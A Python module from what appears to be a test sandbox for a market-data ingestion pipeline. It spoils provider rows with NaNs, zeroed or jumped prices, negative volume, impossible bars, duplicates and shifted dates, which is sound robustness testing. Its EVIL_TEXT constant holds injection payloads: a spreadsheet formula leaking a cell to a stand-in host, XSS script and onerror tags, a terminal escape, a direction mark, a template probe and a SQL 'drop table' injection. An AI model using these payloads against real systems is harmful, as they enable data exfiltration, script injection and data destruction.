"""Faults in the data themselves: rows that a provider should not have sent.

Most of them strike the newest row of each symbol, as a bad night's delivery would.
"""

from collections.abc import Callable, Iterable
from datetime import date, timedelta
from typing import Any

from ingestion.sandbox.faults import FaultRule
from ingestion.sandbox.spoiling.documents import Document, Row

PRICES: dict[str, tuple[str, ...]] = {
    "open": ("o", "open", "adjOpen", "OPEN"),
    "high": ("h", "high", "adjHigh", "HIGH"),
    "low": ("l", "low", "adjLow", "LOW"),
    "close": ("c", "close", "adjClose", "price", "CLOSE"),
}
"""A bar's prices by their names on the wire."""

ALONGSIDE = ("vw", "vwap", "adjclose", "current_price")  # prices that move with the bar
VOLUMES = ("v", "volume")
DAYS = (
    "t", "timestamp", "datetime", "date", "DATE", "observation_date", "execution_date",
    "ex_dividend_date", "published_utc", "publishedDate", "last_trade_time",
)  # fmt: skip
SYMBOLS = ("T", "ticker", "symbol")
HEADLINES = ("headline", "title")
COMPANY_TEXTS = ("companyName", "sector", "industry")
ACTIONS = ("split_from", "numerator", "fromFactor", "cash_amount", "dividend", "amount")
HIGHEST_SECONDS = 10**11  # a larger stamp counts milliseconds
DAY_SECONDS = 86_400
EVIL_TEXT = (
    '=HYPERLINK("https://foreign.example/?leak="&A1,"open") <script>alert(1)</script>'
    "<img src=x onerror=alert(2)> \x1b[31m\x07\u202e{{ 7 * 7 }}'; drop table raw.news; --"
)
"""A spreadsheet formula, markup, a terminal sequence, a direction mark, a template, SQL."""


def spoil_rows(rule: FaultRule, document: Document) -> list[Row]:
    """The rows of a document with the rule's fault in them."""
    if rule.kind == "duplicate_rows":
        return _duplicated(rule, document.rows)
    rows = [dict(row) for row in document.rows]
    if rule.kind == "evil_text":
        for row in _aimed_at(rule, rows, _texts):
            for name in _texts(row):
                row[name] = f"{rule.text(EVIL_TEXT)} {row[name]}"
    elif rule.kind == "misaligned_dates":
        for row in _aimed_at(rule, rows, value_fields):
            _shift(row, -1 if rule.value == "timezone" else 1)
    else:
        spoil = _SPOILERS[rule.kind]
        for row in _newest(_aimed_at(rule, rows, _has_values)):
            spoil(row, rule, document.blank)
    return rows


def is_aimed_at(rule: FaultRule, row: Row) -> bool:
    """Whether a row belongs to a symbol of the rule; one without a symbol is the asked one's."""
    symbols = row.get("tickers") or [row[name] for name in SYMBOLS if name in row]
    return not symbols or any(rule.is_aimed_at(str(symbol)) for symbol in symbols)


def value_fields(row: Row) -> list[str]:
    """The prices of a bar; otherwise the numbers of an observation; none of other rows."""
    prices = [name for names in PRICES.values() for name in names if name in row]
    if prices:
        return prices + [name for name in ALONGSIDE if name in row]
    if _is_story(row) or any(name in row for name in ACTIONS):
        return []
    if "value" in row:
        return ["value"]
    return [name for name, value in row.items() if name not in DAYS and _is_number(row, value)]


def _is_number(row: Row, value: Any) -> bool:
    """Numbers; in a CSV line, where all is text, whatever is no day."""
    if isinstance(value, str):
        return all(isinstance(cell, str) for cell in row.values()) and len(row) == 2
    return isinstance(value, int | float) and not isinstance(value, bool)


def _is_story(row: Row) -> bool:
    return any(name in row for name in HEADLINES)


def _texts(row: Row) -> list[str]:
    """A story's headline, a company's name and what it does."""
    headline = [name for name in HEADLINES if name in row][:1]
    return headline + [name for name in COMPANY_TEXTS if row.get(name)]


def _has_values(row: Row) -> bool:
    return any(row[name] not in (None, "", ".") for name in value_fields(row))


def _aimed_at(rule: FaultRule, rows: Iterable[Row], fits: Callable[[Row], object]) -> list[Row]:
    return [row for row in rows if fits(row) and is_aimed_at(rule, row)]


def _newest(rows: Iterable[Row]) -> list[Row]:
    """The newest row of each symbol."""
    newest: dict[str, Row] = {}
    for row in rows:
        symbol = next((str(row[name]) for name in SYMBOLS if name in row), "")
        if symbol not in newest or _age(row) > _age(newest[symbol]):
            newest[symbol] = row
    return list(newest.values())


def _age(row: Row) -> Any:
    """What rows of one document are ordered by."""
    stamp = next((row[name] for name in DAYS if name in row), "")
    if isinstance(stamp, str) and "/" in stamp:
        month, day, year = stamp.split("/")
        return f"{year}-{month}-{day}"
    return stamp


def _duplicated(rule: FaultRule, rows: list[Row]) -> list[Row]:
    """The newest row of each symbol twice, every story twice."""
    aimed = _aimed_at(rule, rows, bool)
    twice = [id(row) for row in aimed if _is_story(row)]
    twice += [id(row) for row in _newest(row for row in aimed if not _is_story(row))]
    return [copy for row in rows for copy in [row] * (2 if id(row) in twice else 1)]


def _shift(row: Row, days: int) -> None:
    name = next((name for name in DAYS if name in row), None)
    if name is None:
        return
    stamp = row[name]
    if not isinstance(stamp, str):
        row[name] = stamp + days * DAY_SECONDS * (1000 if stamp > HIGHEST_SECONDS else 1)
    elif "/" in stamp:
        month, day, year = map(int, stamp.split("/"))
        row[name] = f"{date(year, month, day) + timedelta(days=days):%m/%d/%Y}"
    else:
        moved = date.fromisoformat(stamp[:10]) + timedelta(days=days)
        row[name] = moved.isoformat() + stamp[10:]


def _without_values(row: Row, rule: FaultRule, blank: str | None) -> None:
    is_nan = rule.value == "nan"
    for name in value_fields(row):
        if isinstance(row[name], str):
            row[name] = "NaN" if is_nan else blank
        else:
            row[name] = float("nan") if is_nan else None


def _multiplied(row: Row, factor: float) -> None:
    for name in value_fields(row):
        if row[name] not in (None, "", "."):
            row[name] = _times(row[name], factor)


def _times(value: Any, factor: float) -> Any:
    """The product, written with as many decimals where it is text."""
    if isinstance(value, str):
        return f"{float(value) * factor:.{len(value.partition('.')[2])}f}"
    return round(value * factor, 6)


def _zero(row: Row, _: FaultRule, __: str | None) -> None:
    _multiplied(row, 0)


def _jump(row: Row, rule: FaultRule, _: str | None) -> None:
    _multiplied(row, rule.number(10))


def _sell_volume(row: Row, _: FaultRule, __: str | None) -> None:
    for name in VOLUMES:
        if row.get(name) is not None:
            row[name] = -abs(row[name]) or -1


def _impossible(row: Row, _: FaultRule, __: str | None) -> None:
    """The high one per cent below the low."""
    high = next((name for name in PRICES["high"] if name in row), None)
    low = next((name for name in PRICES["low"] if name in row), None)
    if high and low:
        row[high] = _times(row[low], 0.99)


_SPOILERS: dict[str, Callable[[Row, FaultRule, str | None], None]] = {
    "nan_values": _without_values,
    "zero_prices": _zero,
    "huge_jump": _jump,
    "negative_volume": _sell_volume,
    "ohlc_violation": _impossible,
}
